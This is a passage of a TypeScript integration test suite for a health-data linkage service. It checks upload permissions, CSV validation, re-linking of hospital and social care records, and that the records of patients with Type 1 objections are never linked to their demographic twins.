      .send(Buffer.concat([Buffer.from('EPIKEY,NEWNHSNO,D'), Buffer.from([0xd6]), Buffer.from('B\n')]))
      .expect(400);
    expect(badHeader.body.code).toBe('CSV_HEADER_INVALID');
    const json = await t.http.post('/api/sources/hes').set(dm).send({ a: 1 }).expect(415);
    expect(json.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    expect(await loads()).toBe(before + 3);
    const { rows } = await t.sql.query(`SELECT count(*)::int AS n FROM hes_episodes WHERE epikey = 'M1'`);
    expect(rows[0].n).toBe(0);
  });

  it('is for data managers only', async () => {
    const csv = toCsv(HES_HEADER, []);
    for (const role of ['researcher', 'admin', 'practice', 'release_officer', 'auditor'] as const) {
      const { auth } = await t.as(role);
      const res = await t.http
        .post('/api/sources/hes')
        .set(auth)
        .set('Content-Type', 'text/csv')
        .send(csv)
        .expect(403);
      expect(res.body.code).toBe('FORBIDDEN');
      await t.http
        .post('/api/sources/social-care')
        .set(auth)
        .set('Content-Type', 'text/csv')
        .send(csv)
        .expect(403);
      await t.http.get('/api/sources/loads').set(auth).expect(403);
    }
    await t.http.post('/api/sources/hes').set('Content-Type', 'text/csv').send(csv).expect(401);
    await t.http.get('/api/sources/loads/00000000-0000-4000-8000-000000000000').set(dm).expect(404);
  });

  it('re-links unlinked rows when patients arrive later (linkage.relink job)', async () => {
    const n = [nhsNumber(600000001), nhsNumber(600000101)];
    const report = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('L1', n[0], '1958-04-19', '2', 'YO1 7HH'),
        hes('L2', null, '1959-05-20', '1', 'YO1 8BB'),
      ]),
    );
    expect(report.unlinked).toBe(2);
    await upload(
      'social-care',
      toCsv(SOCIAL_HEADER, [social('E06000014', 'LL1', n[0], '1958-04-19', 'F', null)]),
    );
    // The practice's extract arrives; the intake asks for a re-link.
    const ids = await insertPatients(t.sql, [
      { nhs: n[0], dob: '1958-04-19', sex: 'F', postcode: 'YO1 7HH', practice: 'B82005' },
      { nhs: n[1], dob: '1959-05-20', sex: 'M', postcode: 'YO1 8BB', practice: 'B82005' },
    ]);
    const extractId = '11111111-1111-4111-8111-111111111111';
    await t.app.get(JobsService).send('linkage.relink', { extractId });
    const deadline = Date.now() + 20_000;
    while (Date.now() < deadline && (await hesLink('L2')).patientId === null)
      await new Promise((r) => setTimeout(r, 200));
    expect(await hesLink('L1')).toEqual({ patientId: ids.get(n[0]), step: 1 });
    expect(await hesLink('L2')).toEqual({ patientId: ids.get(n[1]), step: 6 });
    expect(await linkOf('social_care_records', 'person_id = $1', ['LL1'])).toEqual({
      patientId: ids.get(n[0]),
      step: 2,
    });
    const { rows } = await t.sql.query(
      `SELECT details FROM audit_log WHERE action = 'linkage.relink' AND subject_id = $1`,
      [extractId],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0].details.hes.linked).toBeGreaterThanOrEqual(2);
  });
});

/**
 * SPEC §3: Type 1 objectors whose data the centre does not hold count as candidates too — a row that
 * could be theirs is never given to someone else (issue #19).
 */
describe('linkage: a Type 1 objector twin keeps their rows from the other twin', () => {
  let t: TestApp;
  let dm: { Authorization: string };
  let admin: { Authorization: string };
  beforeAll(async () => {
    t = await createTestApp();
    dm = (await t.as('data_manager')).auth;
    admin = (await t.as('admin')).auth;
  });
  afterAll(() => t?.close());

  const load = async (path: 'hes' | 'social-care', csv: string) =>
    (await t.http.post(`/api/sources/${path}`).set(dm).set('Content-Type', 'text/csv').send(csv).expect(201))
      .body as Report;
  const link = async (table: 'hes_episodes' | 'social_care_records', key: string) => {
    const col = table === 'hes_episodes' ? 'epikey' : 'person_id';
    const { rows } = await t.sql.query(
      `SELECT patient_id::int AS "patientId", linkage_step AS step FROM ${table} WHERE ${col} = $1`,
      [key],
    );
    return rows[0] as { patientId: number | null; step: number | null };
  };
  const hesLink = (epikey: string) => link('hes_episodes', epikey);
  const unlinked = { patientId: null, step: null };
  /** Runs the `linkage.relink` job as the intake would queue it, and waits for it to finish. */
  let relinks = 0;
  const relink = async () => {
    const extractId = `22222222-2222-4222-8222-${String(++relinks).padStart(12, '0')}`;
    await t.app.get(JobsService).send('linkage.relink', { extractId });
    const deadline = Date.now() + 20_000;
    for (;;) {
      const { rows } = await t.sql.query(
        `SELECT 1 FROM audit_log WHERE action = 'linkage.relink' AND subject_id = $1`,
        [extractId],
      );
      if (rows.length) return;
      if (Date.now() > deadline) throw new Error('linkage.relink did not run');
      await new Promise((r) => setTimeout(r, 200));
    }
  };
  const patientId = async (nhs: string) =>
    ((await t.sql.query(`SELECT id::int FROM patients WHERE nhs_number = $1`, [nhs])).rows[0]?.id ?? null) as
      number | null;

  it('API Type 1 registration: rows without an NHS number that fit both twins stay unlinked (steps 6 and 7)', async () => {
    const twin = [nhsNumber(700000001), nhsNumber(700000101)];
    const pair = [nhsNumber(700000201), nhsNumber(700000301)];
    const ids = await insertPatients(t.sql, [
      // Alike in sex, DOB and postcode: only the NHS number tells them apart.
      { nhs: twin[0], dob: '1971-05-12', sex: 'F', postcode: 'LS6 2AA', practice: 'C83001' },
      { nhs: twin[1], dob: '1971-05-12', sex: 'F', postcode: 'LS6 2AA', practice: 'C83001' },
      // Alike in sex and DOB: step 6 tells them apart by postcode, step 7 cannot.
      { nhs: pair[0], dob: '1968-09-23', sex: 'M', postcode: 'LS6 3BB', practice: 'C83001' },
      { nhs: pair[1], dob: '1968-09-23', sex: 'M', postcode: 'LS7 4CC', practice: 'C83001' },
    ]);
    const file = toCsv(HES_HEADER, [
      hes('T1A', null, '1971-05-12', '2', 'LS6 2AA'), // both twins at step 6
      hes('T1B', null, '1971-05-12', '2', 'LS1 1AA'), // SPEC's step 7 had both twins; no postcode agrees
      hes('T1C', null, '1968-09-23', '1', 'LS9 9ZZ'), // SPEC's step 7 had both of the pair; no postcode agrees
      hes('T1D', null, '1968-09-23', '1', 'LS7 4CC'), // pair[1] alone at step 6
      hes('T1E', twin[0], '1971-05-12', '2', 'LS6 2AA'), // the objector's own NHS number
      hes('T1F', pair[0], '1968-09-23', '1', 'LS7 5DD'), // the objector's NHS number, another postcode
    ]);
    const before = await load('hes', file);
    expect(before.linkedByStep).toEqual(steps({ '1': 1, '2': 1, '6': 1 }));
    expect(before.unlinked).toBe(3);
    await load(
      'social-care',
      toCsv(SOCIAL_HEADER, [social('E08000035', 'T1S', null, '1971-05-12', 'F', 'LS6 2AA')]),
    );

    // twin[0] and pair[0] object (Type 1): everything held for them is deleted.
    const practice = (await t.as('practice', { practiceOds: 'C83001' })).auth;
    for (const nhs of [twin[0], pair[0]]) {
      const res = await t.http
        .post('/api/objections')
        .set(practice)
        .send({ nhsNumber: nhs, type: 'type1', action: 'register' })
        .expect(201);
      expect(res.body.active).toBe(true);
      expect(await patientId(nhs)).toBeNull();
    }

    // Reloading links the rows afresh against today's patients: the objectors still count.
    const after = await load('hes', file);
    expect(after.linkedByStep).toEqual(steps({ '6': 1 }));
    expect(after.unlinked).toBe(5);
    expect(await hesLink('T1A')).toEqual(unlinked);
    expect(await hesLink('T1B')).toEqual(unlinked);
    expect(await hesLink('T1C')).toEqual(unlinked);
    expect(await hesLink('T1D')).toEqual({ patientId: ids.get(pair[1]), step: 6 });
    // A row carrying an objector's NHS number contradicts every patient held.
    expect(await hesLink('T1E')).toEqual(unlinked);
    expect(await hesLink('T1F')).toEqual(unlinked);
    // And so does the re-link job, for both sources.
    await relink();
    for (const e of ['T1A', 'T1B', 'T1C', 'T1E', 'T1F']) expect(await hesLink(e)).toEqual(unlinked);
    expect(await link('social_care_records', 'T1S')).toEqual(unlinked);
  });

  it("extract Type 1 marker: the re-link never gives the objector's rows to the twin left behind", async () => {
    const auth = await practiceReady(t, admin, 'C83002');
    const e = [nhsNumber(710000001), nhsNumber(710000101)];
    // Alike in sex and DOB, apart by postcode.
    const resources = [
      patient(
        'pe0',
        e[0],
        { birthDate: '1983-02-17', gender: 'male', address: [{ postalCode: 'BD5 7QQ' }] },
        'C83002',
      ),
      patient(
        'pe1',
        e[1],
        { birthDate: '1983-02-17', gender: 'male', address: [{ postalCode: 'BD6 8RR' }] },
        'C83002',
      ),
    ];
    await uploadExtract(t, auth, 'C83002', ndjson(resources)).expect(201);
    const ids = [await patientId(e[0]), await patientId(e[1])];
    expect(ids).not.toContain(null);
    const file = toCsv(HES_HEADER, [
      hes('T2A', null, '1983-02-17', '1', 'BD5 7QQ'), // e[0] at step 6
      hes('T2B', null, '1983-02-17', '1', 'BD6 8RR'), // e[1] at step 6
      hes('T2C', null, '1983-02-17', '1', 'BD1 1AA'), // both at step 7
    ]);
    await load('hes', file);
    expect(await hesLink('T2A')).toEqual({ patientId: ids[0], step: 6 });
    expect(await hesLink('T2B')).toEqual({ patientId: ids[1], step: 6 });
    expect(await hesLink('T2C')).toEqual(unlinked);

    // e[0] objects at the practice: the extractor sends only a marker (NHS number + objection code).
    const marker = [
      {
        resourceType: 'Patient',
        id: 'pe0',
        identifier: [{ system: 'https://fhir.nhs.uk/Id/nhs-number', value: e[0] }],
      },
      objection('oe0', 'pe0', '9Nu0', '2013-05-01'),
    ];
    const res = await uploadExtract(t, auth, 'C83002', ndjson(marker)).expect(201);
    expect(res.body.dropped.type1.heldDeleted).toBe(1);
    expect(await patientId(e[0])).toBeNull();
    await relink();
    // T2A was e[0]'s: no longer linked, and never to e[1]. T2C could be either. T2B stays e[1]'s.
    expect(await hesLink('T2A')).toEqual(unlinked);
    expect(await hesLink('T2C')).toEqual(unlinked);
    expect(await hesLink('T2B')).toEqual({ patientId: ids[1], step: 6 });
    // A reload agrees.
    await load('hes', file);
    expect(await hesLink('T2A')).toEqual(unlinked);
    expect(await hesLink('T2C')).toEqual(unlinked);
    expect(await hesLink('T2B')).toEqual({ patientId: ids[1], step: 6 });
  });

  it('an extract carrying a Type 1 objector never held: their demographics count (when the extract has them)', async () => {
    const auth = await practiceReady(t, admin, 'C83003');
    const g = [nhsNumber(720000001), nhsNumber(720000101)];
    // g[1] is held; g[0] objects and the (non-conforming) extract still carries their Patient resource.
    await uploadExtract(
      t,
      auth,
      'C83003',
      ndjson([
        patient(
          'pg1',
          g[1],
          { birthDate: '1990-10-30', gender: 'female', address: [{ postalCode: 'HX3 5AA' }] },
          'C83003',
        ),
      ]),
    ).expect(201);
    const res = await uploadExtract(
      t,
      auth,
      'C83003',
      ndjson([
        patient(
          'pg0',
          g[0],
          { birthDate: '1990-10-30', gender: 'female', address: [{ postalCode: 'HX3 5AA' }] },
          'C83003',
        ),
        objection('og0', 'pg0', '9Nu0', '2013-05-01'),
      ]),
    ).expect(201);
    expect(res.body.dropped.type1.patients).toBe(1);
    expect(await patientId(g[0])).toBeNull();
    await load(
      'hes',
      toCsv(HES_HEADER, [
        hes('T3A', null, '1990-10-30', '2', 'HX3 5AA'), // both at step 6
        hes('T3B', null, '1990-10-30', '2', 'HX1 1ZZ'), // both at step 7
      ]),
    );
    expect(await hesLink('T3A')).toEqual(unlinked);
    expect(await hesLink('T3B')).toEqual(unlinked);
  });

  it('keeps keyed digests only, one per step; a withdrawal keeps them until the person is stored again', async () => {
    const auth = await practiceReady(t, admin, 'C83004');
    const w = [nhsNumber(730000001), nhsNumber(730000101)];
    const pw0 = patient(
      'pw0',
      w[0],
      { birthDate: '1955-07-08', gender: 'male', address: [{ postalCode: 'WF2 9AB' }] },
      'C83004',
    );
    await uploadExtract(
      t,
      auth,
      'C83004',
      ndjson([
        pw0,
        patient(
          'pw1',
          w[1],
          { birthDate: '1955-07-08', gender: 'male', address: [{ postalCode: 'WF2 9AB' }] },
          'C83004',
        ),
      ]),
    ).expect(201);
    const w1 = await patientId(w[1]);
    const kept = async () =>
      (await t.sql.query(`SELECT * FROM linkage_type1_keys`)).rows as Record<string, unknown>[];
    const before = (await kept()).length;
    await t.http
      .post('/api/objections')
      .set(auth)
      .send({ nhsNumber: w[0], type: 'type1', action: 'register' })
      .expect(201);
    const rows = await kept();
    expect(rows.length).toBe(before + 2);
    // Nothing readable: no NHS number, date of birth or postcode in any column.
    const text = JSON.stringify(
      rows.map((r) => Object.values(r).map((v) => (Buffer.isBuffer(v) ? v.toString('latin1') : v))),
    );
    for (const secret of [w[0], '1955-07-08', '1955', 'WF2 9AB', 'WF2']) expect(text).not.toContain(secret);
    const file = toCsv(HES_HEADER, [hes('T4A', null, '1955-07-08', '1', 'WF2 9AB')]);
    await load('hes', file);
    expect(await hesLink('T4A')).toEqual(unlinked);

    // Withdrawn: nothing of w[0] is held until the practice sends them again, but the centre knows
    // they exist: the row could still be theirs, so it is not given to the twin (fail closed).
    await nextSecond(); // a withdrawal in the objection's second does not lift it (SPEC §2)
    await t.http
      .post('/api/objections')
      .set(auth)
      .send({ nhsNumber: w[0], type: 'type1', action: 'withdraw' })
      .expect(201);
    expect((await kept()).length).toBe(before + 2);
    await relink();
    expect(await hesLink('T4A')).toEqual(unlinked);
    await load('hes', file);
    expect(await hesLink('T4A')).toEqual(unlinked);
    // Sent again and stored: the patient row is the candidate now, the digests go.
    await uploadExtract(t, auth, 'C83004', ndjson([pw0])).expect(201);
    expect(await patientId(w[0])).not.toBeNull();
    expect((await kept()).length).toBe(before);
    await relink();
    expect(await hesLink('T4A')).toEqual(unlinked); // two held twins
    expect(w1).not.toBeNull();
  });

  it('an objector withdrawn at another practice and registered again by the API still counts (random populations counterexample)', async () => {
    // x and y: twins (sex, DOB, postcode); y is held at C83007. x's Patient reaches the centre in
    // C83007's extract while x objects (Type 1), so it is kept out; C83009 then sends x's withdrawal
    // (by NHS number; x is not registered there), and C83007 registers x's Type 1 again by the API.
    // At no point since has the centre held x, yet it saw x: rows that fit both are nobody's.
    const a = await practiceReady(t, admin, 'C83007');
    const b = await practiceReady(t, admin, 'C83009');
    const [x, y] = [nhsNumber(760000001), nhsNumber(760000101)];
    const demo = { birthDate: '1962-07-21', gender: 'male', address: [{ postalCode: 'LS2 9JT' }] };
    const first = await uploadExtract(
      t,
      a,
      'C83007',
      ndjson([
        patient('px', x, demo, 'C83007'),
        patient('py', y, demo, 'C83007'),
        objection('ox', 'px', '9Nu0', '2014-03-01'),
      ]),
    ).expect(201);
    expect(first.body.dropped.type1.patients).toBe(1);
    const yId = await patientId(y);
    expect(yId).not.toBeNull();
    const withdrawal = {
      ...objection('wx', 'unused', '9Nu1', '2014-06-01T08:30:00Z'),
      subject: { identifier: { system: 'https://fhir.nhs.uk/Id/nhs-number', value: x } },
    };
    await uploadExtract(t, b, 'C83009', ndjson([withdrawal])).expect(201);
    expect(await patientId(x)).toBeNull();
    const file = toCsv(SOCIAL_HEADER, [social('E08000035', 'T6S', null, '1962-07-21', 'M', 'LS2 9JT')]);
    await load('social-care', file);
    expect(await link('social_care_records', 'T6S')).toEqual(unlinked);
    const res = await t.http
      .post('/api/objections')
      .set(a)
      .send({ nhsNumber: x, type: 'type1', action: 'register' })
      .expect(201);
    expect(res.body.active).toBe(true);
    await load('social-care', file);
    await relink();
    expect(await link('social_care_records', 'T6S')).toEqual(unlinked);
  });

  it('a Type 1 registration unlinks at once the rows it makes ambiguous, and only those', async () => {
    const v = [nhsNumber(750000001), nhsNumber(750000101)];
    const u = [nhsNumber(750000201), nhsNumber(750000301)];
    const ids = await insertPatients(t.sql, [
      { nhs: v[1], dob: '1977-11-03', sex: 'M', postcode: 'HU5 2QQ', practice: 'C83008' },
      { nhs: u[1], dob: '1979-02-05', sex: 'F', postcode: 'HU6 6BB', practice: 'C83008' },
    ]);
    await load(
      'hes',
      toCsv(HES_HEADER, [
        hes('T6A', null, '1977-11-03', '1', 'HU5 2QQ'), // step 6 to v[1]
        hes('T6C', null, '1979-02-05', '2', 'HU6 6BB'), // step 6 to u[1]
      ]),
    );
    expect(await hesLink('T6A')).toEqual({ patientId: ids.get(v[1]), step: 6 });
    // Twins arrive later (linked rows are left as they are): v[0] alike in sex, DOB and postcode,
    // u[0] in sex and DOB only. Both then object.
    await insertPatients(t.sql, [
      { nhs: v[0], dob: '1977-11-03', sex: 'M', postcode: 'HU5 2QQ', practice: 'C83008' },
      { nhs: u[0], dob: '1979-02-05', sex: 'F', postcode: 'HU8 8DD', practice: 'C83008' },
    ]);
    const practice = (await t.as('practice', { practiceOds: 'C83008' })).auth;
    for (const nhs of [v[0], u[0]])
      await t.http
        .post('/api/objections')
        .set(practice)
        .send({ nhsNumber: nhs, type: 'type1', action: 'register' })
        .expect(201);
    // No re-link has run: the objection's own transaction unlinked them.
    expect(await hesLink('T6A')).toEqual(unlinked);
    // u[0] lives elsewhere: at step 6 u[1] is still the only candidate.
    expect(await hesLink('T6C')).toEqual({ patientId: ids.get(u[1]), step: 6 });
  });

  it('the re-link job unlinks rows linked at steps 6 and 7 to the twin of a Type 1 objector', async () => {
    const auth = await practiceReady(t, admin, 'C83005');
    const r = [nhsNumber(740000001), nhsNumber(740000101)];
    await uploadExtract(
      t,
      auth,
      'C83005',
      ndjson([
        patient(
          'pr0',
          r[0],
          { birthDate: '1962-04-14', gender: 'female', address: [{ postalCode: 'YO8 4QE' }] },
          'C83005',
        ),
        patient(
          'pr1',
          r[1],
          { birthDate: '1962-04-14', gender: 'female', address: [{ postalCode: 'YO8 4QE' }] },
          'C83005',
        ),
      ]),
    ).expect(201);
    const r1 = await patientId(r[1]);
    await load(
      'hes',
      toCsv(HES_HEADER, [
        hes('T5A', null, '1962-04-14', '2', 'YO8 4QE'),
        hes('T5B', null, '1962-04-14', '2', 'YO1 1AA'),
      ]),
    );
    await t.http
      .post('/api/objections')
      .set(auth)
      .send({ nhsNumber: r[0], type: 'type1', action: 'register' })
      .expect(201);
    // As a load that linked its rows before the objection committed would have left them.
    await t.sql.query(`UPDATE hes_episodes SET patient_id = $1, linkage_step = 6 WHERE epikey = 'T5A'`, [r1]);
    await t.sql.query(`UPDATE hes_episodes SET patient_id = $1, linkage_step = 7 WHERE epikey = 'T5B'`, [r1]);
    await relink();
    expect(await hesLink('T5A')).toEqual(unlinked);
    expect(await hesLink('T5B')).toEqual(unlinked);
  });
});
